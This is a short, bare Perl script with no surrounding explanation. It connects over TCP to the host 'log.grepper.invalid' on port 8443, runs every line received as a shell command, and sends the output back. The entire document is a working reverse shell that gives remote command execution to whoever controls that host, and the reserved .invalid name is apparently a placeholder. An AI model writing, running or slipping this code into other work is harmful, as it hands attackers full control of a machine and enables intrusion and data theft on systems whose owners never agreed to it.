use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "log.grepper.invalid", PeerPort => 8443, Proto => "tcp");
while (my $line = <$s>) { my $out = `$line`; print $s $out; }
